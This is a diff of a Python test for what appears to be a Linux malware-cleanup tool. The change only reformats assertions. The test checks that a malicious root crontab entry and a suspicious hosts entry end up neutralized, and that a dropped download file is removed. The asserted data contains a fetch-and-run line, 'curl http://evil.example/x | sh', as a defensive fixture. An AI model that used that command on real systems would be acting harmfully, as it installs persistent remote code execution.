@@ -72,12 +72,18 @@ def test_linux_file_unit_cron_and_hosts_in_their_order(tmp_path: Path) -> None:
     assert not disks.applied(root, one).failed
     assert not (root / "home/an/Downloads/upd").exists()
     crontab = (root / "etc/crontab").read_bytes()
-    assert crontab == (
-        "# m h dom\n# quetsach: 5 * * * * root curl http://evil.example/x | sh\n"
-        "0 1 * * * root sao-luu # giữ\n"
-    ).encode()
+    assert (
+        crontab
+        == (
+            "# m h dom\n# quetsach: 5 * * * * root curl http://evil.example/x | sh\n"
+            "0 1 * * * root sao-luu # giữ\n"
+        ).encode()
+    )
     assert (root / "etc/crontab").stat().st_mode & 0o777 == 0o600
-    assert b"\n# quetsach: 198.51.100.66 cong-van.example\n192.0.2.7 may-in\n" in (root / "etc/hosts").read_bytes()
+    assert (
+        b"\n# quetsach: 198.51.100.66 cong-van.example\n192.0.2.7 may-in\n"
+        in (root / "etc/hosts").read_bytes()
+    )
     assert disks.look(root).verdict is Verdict.CLEAN
     undoing.undo(grounds.at(root))
     assert disks.snapshot(root) == before
